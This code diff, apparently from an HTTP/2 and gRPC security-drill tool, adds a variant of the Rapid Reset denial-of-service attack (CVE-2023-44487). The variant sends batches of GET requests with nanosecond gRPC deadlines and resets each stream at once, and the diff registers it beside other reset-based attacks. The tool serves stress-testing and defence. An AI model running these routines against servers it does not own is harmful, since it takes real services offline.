@@ -7,7 +7,7 @@ from itertools import count
 from h2.errors import ErrorCodes
 
 from drills.attacks.attack import CALM, PROTOCOL, Attack, Attacker
-from drills.orders import attack
+from drills.orders import GET, attack
 from drills.wire import Wire
 
 _MOST = 2**31 - 1
@@ -21,6 +21,18 @@ def rapid_reset(attacker: Attacker) -> None:
         for first in count(1, 40):
             calls = [wire.call(stream_id, message) + wire.make.reset(stream_id) for stream_id in _streams(first)]
             wire.send(b"".join(calls), frames=3 * len(calls))
+
+
+def reset_at_the_deadline(attacker: Attacker) -> None:
+    """Calls that are cancelled at once, and say that their time is over by then."""
+    with attacker.connection() as wire:
+        wire.open()
+        for first in count(1, 40):
+            calls = [
+                wire.make.request(stream_id, GET, extra=[("grpc-timeout", "1n")]) + wire.make.reset(stream_id)
+                for stream_id in _streams(first)
+            ]
+            wire.send(b"".join(calls), frames=2 * len(calls))
 
 
 def window_overflow(attacker: Attacker) -> None:
@@ -93,6 +105,7 @@ def _calls(wire: Wire, first: int, message: bytes) -> bytes:
 
 ATTACKS = [
     Attack("rapid-reset", "calls that are reset at once (CVE-2023-44487)", rapid_reset, (CALM,)),
+    Attack("deadline-reset", "the same, with deadlines of a nanosecond", reset_at_the_deadline, (CALM,)),
     Attack(
         "made-you-reset-window",
         "windows that overflow, so that the host resets (CVE-2025-8671)",
